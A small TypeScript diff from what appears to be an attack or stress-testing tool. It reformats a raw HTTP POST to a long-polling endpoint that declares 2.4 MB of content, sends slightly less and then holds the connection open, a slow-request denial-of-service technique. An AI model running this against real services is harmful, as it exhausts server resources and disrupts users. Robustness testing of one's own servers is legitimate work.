@@ -115,8 +115,8 @@ export const pollingPosts = (it: Attacking): Promise<void> =>
       }
       const { raw, sid } = session
       await raw.write(
-        `POST ${POLLING}&sid=${sid} HTTP/1.1\r\nHost: ${it.host}\r\n` +
-          'Content-Type: text/plain\r\nContent-Length: 2400000\r\n\r\n',
+        `POST ${POLLING}&sid=${sid} HTTP/1.1\r\nHost: ${it.host}\r\nContent-Type: text/plain\r\n` +
+          'Content-Length: 2400000\r\n\r\n',
       )
       await Promise.race([raw.write('x'.repeat(2_399_000)), it.rest(1_000)])
       await held(it, raw)
